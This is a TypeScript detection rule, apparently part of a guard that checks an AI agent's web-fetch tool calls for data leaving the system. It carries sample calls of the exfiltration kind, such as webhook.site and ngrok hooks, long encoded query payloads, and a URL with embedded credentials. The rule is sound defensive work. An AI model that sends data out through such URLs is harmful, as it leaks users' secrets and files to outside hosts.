import { findSecrets } from '@cco/secrets';
import { defineRule } from '../define-rule.ts';
import { hostOf, isDropHost, isLocalHost, isOnList } from '../network.ts';

const LONGEST_QUERY = 400;

/** Fetching from hosts that are not allowed, or by URLs that carry data. */
export const fetchHost = defineRule({
  id: 'fetch-host',
  category: 'data-out',
  severity: 'low',
  examples: {
    match: [
      { tool: 'WebFetch', input: { url: 'https://webhook.site/abc?x=1', prompt: 'p' } },
      { tool: 'WebFetch', input: { url: 'http://198.51.100.7/c', prompt: 'p' } },
      { tool: 'WebFetch', input: { url: `https://acme.io/?d=${'QUJD'.repeat(120)}`, prompt: 'p' } },
      { tool: 'WebFetch', input: { url: 'https://user:s3cretPass99@acme.io/', prompt: 'p' } },
      { tool: 'mcp__web__fetch', input: { url: 'https://abc.ngrok.io/hook' } },
    ],
    pass: [
      { tool: 'WebFetch', input: { url: 'https://nodejs.org/api/fs.html', prompt: 'p' } },
      { tool: 'WebFetch', input: { url: 'http://localhost:3000', prompt: 'p' } },
      {
        tool: 'WebFetch',
        input: { url: 'https://developer.mozilla.org/search?q=fetch', prompt: 'p' },
      },
      { tool: 'WebSearch', input: { query: 'webhook.site' } },
      { tool: 'Read', input: { file_path: 'docs/webhook.site.md' } },
    ],
  },
  *judge({ urls, context }) {
    for (const url of urls) {
      const host = hostOf(url);
      if (host === undefined || isLocalHost(host)) continue;
      if (context.allowedHosts !== undefined && isOnList(host, context.allowedHosts)) continue;
      const query = /[?#](.*)$/s.exec(url)?.[1] ?? '';
      if (findSecrets(url).length > 0) yield { evidence: url, url, severity: 'high' };
      else if (isDropHost(host) || query.length > LONGEST_QUERY)
        yield { evidence: url, url, severity: 'medium' };
      else
        yield { evidence: url, url, severity: context.allowedHosts === undefined ? 'info' : 'low' };
    }
  },
});
